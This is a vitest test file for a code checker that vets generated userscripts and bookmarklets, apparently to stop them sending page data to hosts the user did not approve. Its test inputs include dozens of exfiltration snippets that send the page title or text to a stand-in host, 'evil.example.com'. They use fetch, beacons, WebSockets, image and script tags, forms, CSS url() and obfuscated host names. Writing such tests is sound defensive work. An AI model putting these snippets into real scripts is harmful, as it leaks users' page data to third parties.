import type { PageOutline, ScriptPlan } from "@scriptorium/shared-protocol/hub-edge/script-plan";
import { describe, expect, test } from "vitest";
import { type CodeProblem, checkCode } from "./check-code.ts";
import { previousScript } from "./previous-script.ts";

const EVIL = "evil.example.com";
const outline: PageOutline = {
	url: "https://shop.example.org/cart",
	title: `Cart, now on ${EVIL}`,
	elements: [
		{ number: 1, tag: "p", role: null, type: null, name: `https://${EVIL}/`, selector: "#c", fallbacks: [] },
		{ number: 2, tag: "a", role: "link", type: null, name: "More", selector: "#more", fallbacks: [] },
	],
};
const GRANTS = ["GM_addStyle", "GM_notification", "GM_xmlhttpRequest"];
const planOf = (change: Partial<ScriptPlan> = {}): ScriptPlan => ({
	summary: "Shows the prices.",
	steps: [],
	kind: "userscript",
	matches: ["*://shop.example.org/*"],
	grants: GRANTS,
	hosts: [],
	elements: [1, 2],
	unseen: null,
	...change,
});
const check = (body: string, plan = planOf(), rights: Parameters<typeof checkCode>[3] = {}): readonly CodeProblem[] =>
	checkCode(body, plan, outline, rights);

/** Each way in which code contacts a server; ADDRESS is a JavaScript expression. */
const WAYS: readonly (readonly [string, string])[] = [
	["fetch", "await fetch(ADDRESS, { method: 'POST', body: document.title });"],
	["XMLHttpRequest", "const x = new XMLHttpRequest(); x.open('POST', ADDRESS); x.send(document.title);"],
	["GM_xmlhttpRequest", "GM_xmlhttpRequest({ method: 'POST', url: ADDRESS, data: document.title });"],
	["sendBeacon", "navigator.sendBeacon(ADDRESS, document.title);"],
	["WebSocket", "const w = new WebSocket(ADDRESS); w.onopen = () => w.send(document.title);"],
	["EventSource", "new EventSource(ADDRESS).onmessage = console.log;"],
	["a picture", "new Image().src = ADDRESS + '?' + document.title;"],
	["a picture of the page", "(await element(2)).querySelector('img').src = ADDRESS + '?' + document.title;"],
	["a script", "const s = document.createElement('script'); s.src = ADDRESS; document.head.append(s);"],
	[
		"a style sheet",
		"const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = ADDRESS; document.head.append(l);",
	],
	["a style", "document.body.style.backgroundImage = 'url(' + ADDRESS + ')';"],
	["an added style", "GM_addStyle('body { background: url(' + ADDRESS + ') }');"],
	["a frame", "const f = document.createElement('iframe'); f.src = ADDRESS + document.title; document.body.append(f);"],
	[
		"a form of its own",
		"const f = document.createElement('form'); f.action = ADDRESS; const i = document.createElement('input'); i.name = 'd'; i.value = document.title; f.append(i); document.body.append(f); f.submit();",
	],
	["a form of the page", "const f = (await element(2)).closest('html'); f.action = ADDRESS; f.submit();"],
	["the address of the page", "location.href = ADDRESS + '?' + document.title;"],
	["another window", "window.open(ADDRESS + '?' + document.title);"],
	["a link", "const a = document.createElement('a'); a.href = ADDRESS + '?' + document.title; a.click();"],
	["a ping", "(await element(2)).ping = ADDRESS;"],
	["markup", "(await element(2)).innerHTML = '<img src=\"' + ADDRESS + '?' + document.title + '\">';"],
	["importScripts", "importScripts(ADDRESS);"],
	["a worker", "new Worker(ADDRESS);"],
	["import", "await import(ADDRESS);"],
	[
		"a base address",
		"const b = document.createElement('base'); b.href = ADDRESS; document.head.prepend(b); await fetch('x?' + document.title);",
	],
	["a message to a frame", "document.body.querySelector('html').contentWindow.postMessage(document.title, ADDRESS);"],
];
const withAddress = (body: string, address: string) => body.replaceAll("ADDRESS", address);

describe("an address that only a text of the page names is refused", () => {
	test.each(WAYS)("by %s, when the code repeats it", (_way, body) => {
		const problems = check(withAddress(body, `"https://${EVIL}/"`));
		expect(problems.map(({ kind }) => kind)).toContain("exceeds");
		if (!/importScripts|Worker|import\(|'script'/.test(body)) expect(problems.map(({ host }) => host)).toContain(EVIL);
	});

	test.each(WAYS)("by %s, when the code reads it from the page", (_way, body) => {
		for (const address of [
			"(await element(1)).textContent",
			"document.title",
			"JSON.parse((await element(1)).textContent).to",
			"(await (await fetch('/links.json')).json()).to",
			"/https?:\\S+/.exec((await element(1)).innerText)[0]",
		]) {
			expect(
				check(withAddress(body, address)).map(({ kind }) => kind),
				address,
			).toContain("exceeds");
		}
	});
});

describe("page data is not sent along to a link of the page", () => {
	test.each([
		["in the body", "await fetch((await element(2)).href, { method: 'POST', body: document.body.innerText });"],
		["in the address", "await fetch((await element(2)).href + '?d=' + document.title);"],
		[
			"in its parameters",
			"const u = new URL((await element(2)).href); u.searchParams.set('d', document.title); await fetch(u);",
		],
		["in a header", "await fetch((await element(2)).href, { headers: { x: document.title } });"],
		["in the name of the window", "window.name = document.title; location.href = (await element(2)).href;"],
		["by the link itself", "const a = await element(2); a.href += '?' + document.title; a.click();"],
		["by a part of the link", "const a = await element(2); a.search = document.title; a.click();"],
		[
			"by a part of the link with a computed name",
			"const a = await element(2); a['search'] = document.title; a.click();",
		],
		["by parts that are assigned together", "Object.assign(await element(2), { search: document.title }).click();"],
		["by Reflect", "const a = await element(2); Reflect.set(a, 'hash', document.title); a.click();"],
		[
			"by a base address",
			"document.querySelector('html').firstChild.href = '/'; const b = document.createElement('base'); b.href = (await element(2)).href; document.head.prepend(b); await fetch('x?' + document.title);",
		],
	])("%s", (_how, body) => {
		expect(check(body).map(({ kind }) => kind)).toContain("exceeds");
	});

	test.each([
		["followed", "location.href = (await element(2)).href;"],
		["opened", "window.open((await element(2)).href);"],
		["looked at", "const r = await fetch((await element(2)).href, { method: 'HEAD' }); console.log(r.status);"],
		[
			"shortened",
			"const a = await element(2); const u = new URL(a.href); u.searchParams.delete('utm_source'); a.href = u.href;",
		],
		["emptied of its parameters", "(await element(2)).search = '';"],
	])("but it may be %s", (_how, body) => {
		expect(check(body)).toEqual([]);
	});
});

describe("a host hides in", () => {
	test.each([
		["a part of a link", `const a = await element(2); a.hostname = '${EVIL}'; a.click();`],
		["a part of a link, with its port", `const a = await element(2); a.host = '${EVIL}:8080'; a.click();`],
		["parts that are assigned together", `Object.assign(await element(2), { hostname: '${EVIL}' }).click();`],
		[
			"a link that has the name of an object",
			`const a = {}; ((a) => { a.hostname = '${EVIL}'; a.click(); })(await element(2));`,
		],
		["a link that replaces an object", `let a = {}; a = await element(2); a.hostname = '${EVIL}'; a.click();`],
		["the picture of a notification", `GM_notification({ text: 'a', image: 'https://${EVIL}/?' + document.title });`],
		["the picture of a notification by position", `GM_notification('a', 'b', 'https://${EVIL}/?' + document.title);`],
		["a notification that is called by another name", `const n = GM_notification; n({ image: 'https://${EVIL}/' });`],
		["a notification made elsewhere", `const d = { text: 'a' }; d.image = 'https://${EVIL}/'; GM_notification(d);`],
		["the other spelling of a notification", `GM.notification({ text: 'a', image: 'https://${EVIL}/' });`],
		["a notification that is named by a text", `GM['notification']({ text: 'a', image: 'https://${EVIL}/' });`],
		["a notification of another object", `const g = GM; g.notification({ text: 'a', image: 'https://${EVIL}/' });`],
		["a notification of the window", `window.GM_notification({ text: 'a', image: 'https://${EVIL}/' });`],
		["a text that becomes markup", "(await element(2)).innerHTML = (await element(1)).textContent;"],
		[
			"a title that becomes markup",
			"(await element(2)).insertAdjacentHTML('beforeend', '<b>' + document.title + '</b>');",
		],
		[
			"the document of a frame",
			"const f = document.createElement('iframe'); f.srcdoc = (await element(1)).textContent; document.body.append(f);",
		],
		["the first part of a path", "await fetch('/' + (await element(1)).textContent, { method: 'POST', body: 'a' });"],
		["what follows the own origin", "await fetch(location.origin + (await element(1)).textContent);"],
		["an added style", "GM_addStyle((await element(1)).textContent);"],
		["an added style, by its other name", "GM.addStyle('p {' + (await element(1)).textContent + '}');"],
		[
			"a style sheet",
			"const s = document.createElement('style'); s.textContent = (await element(1)).innerText; document.head.append(s);",
		],
		[
			"a part of a style sheet",
			"const css = (await element(1)).textContent; const s = document.createElement('style'); s.append(css);",
		],
		["a rule", "const css = document.title; document.styleSheets[0].insertRule(css);"],
		["a sheet of rules", "const s = new CSSStyleSheet(); s.replaceSync((await element(1)).textContent);"],
		["the style of an element", "(await element(2)).setAttribute('style', (await element(1)).textContent);"],
		["the text of a style", "(await element(2)).style.cssText = (await element(1)).textContent;"],
		["one property", "(await element(2)).style.background = (await element(1)).textContent;"],
		["one property by its name", "(await element(2)).style.setProperty('background', document.title);"],
		["a message to every window", "window.postMessage(document.body.innerText, '*');"],
		["a computed name", "await fetch('https://' + (await element(1)).textContent);"],
		["its letters", "await fetch('https://' + ['evil', 'example', 'com'].join('.'));"],
		["the user of an address", `await fetch('https://shop.example.org@${EVIL}/');`],
	])("%s, and is found", (_where, body) => {
		expect(check(body).map(({ kind }) => kind)).toContain("exceeds");
	});

	test.each([
		["a notification of texts", "GM_notification({ title: 'a', text: 'b', onclick: () => window.focus() });"],
		["a notification by its other name", "GM.notification('a', 'b');"],
		["a text that stays one", "(await element(2)).textContent = (await element(1)).textContent;"],
		["a fixed path", "await fetch('/api/' + (await element(1)).textContent);"],
		["a message without data", "window.postMessage({ kind: 'ready' }, '*');"],
		["a style with sizes", "GM_addStyle('p { width: ' + (await element(2)).offsetWidth + 'px }');"],
		[
			"a style of its own",
			"const s = document.createElement('style'); s.textContent = 'p { color: red }'; document.head.append(s); (await element(2)).style.color = 'red';",
		],
		["a size", "(await element(2)).style.setProperty('font-size', (await element(1)).textContent + 'px');"],
		["an object of its own", "const filter = {}; filter.search = document.title; console.log(filter.search);"],
		[
			"a parameter of the page's own address",
			"const p = new URLSearchParams(location.search); p.set('raw', '1'); location.search = p.toString();",
		],
	])("%s does not", (_where, body) => {
		expect(check(body)).toEqual([]);
	});
});

const CONTACTS = WAYS.filter(([way]) =>
	[
		"fetch",
		"XMLHttpRequest",
		"GM_xmlhttpRequest",
		"sendBeacon",
		"WebSocket",
		"a picture",
		"a form of its own",
		"a link",
	].includes(way),
);
describe("may be contacted by each way", () => {
	test.each(CONTACTS)("the site of the plan, by %s", (_way, body) => {
		expect(check(withAddress(body, '"https://shop.example.org/api"'))).toEqual([]);
		expect(check(withAddress(body, '"https://api.shop.example.org/"'))).toEqual([]);
	});

	test.each(CONTACTS)("a host that the person named, by %s", (_way, body) => {
		const plan = planOf({ hosts: ["prices.example.net"] });
		expect(check(withAddress(body, '"https://prices.example.net/"'), plan)).toEqual([]);
		expect(check(withAddress(body, '"https://prices.example.net.evil.example.com/"'), plan)).not.toEqual([]);
		expect(check(withAddress(body, '"https://otherprices.example.net/"'), plan)).not.toEqual([]);
	});

	test.each(CONTACTS)("a host that the script contacted before, by %s", (_way, body) => {
		const existingCode = "fetch('https://prices.example.net/list').then((r) => r.json()).then(console.log);";
		const previous = previousScript({ existingCode, isModification: true });
		expect(check(withAddress(body, '"https://prices.example.net/"'), planOf(), { previous })).toEqual([]);
		expect(check(withAddress(body, `"https://${EVIL}/"`), planOf(), { previous })).not.toEqual([]);
	});
});

test("a bookmarklet may contact the site that was shared, chosen or named", () => {
	const plan = planOf({ kind: "bookmarklet", matches: [], grants: [] });
	expect(check("await fetch('https://shop.example.org/api');", plan)).toEqual([]);
	const chosen = { sites: ["*://*.example.net/*"] };
	expect(check("await fetch('https://api.example.net/');", plan, chosen)).toEqual([]);
	expect(check("await fetch('https://api.example.net/');", plan).map(({ host }) => host)).toEqual(["api.example.net"]);
});

test("a script that is changed may keep a link, and sends no data there", () => {
	const link = `const a = document.createElement('a'); a.href = 'https://${EVIL}/'; document.body.append(a);`;
	const previous = previousScript({ existingCode: link, isModification: true });
	expect(previous).toMatchObject({ contacts: [], links: [EVIL] });
	expect(check(link, planOf(), { previous })).toEqual([]);
	expect(check(link.replace("/'", "/?' + document.title"), planOf(), { previous })).not.toEqual([]);
	expect(check(`${link} await fetch('https://${EVIL}/');`, planOf(), { previous })).not.toEqual([]);
});
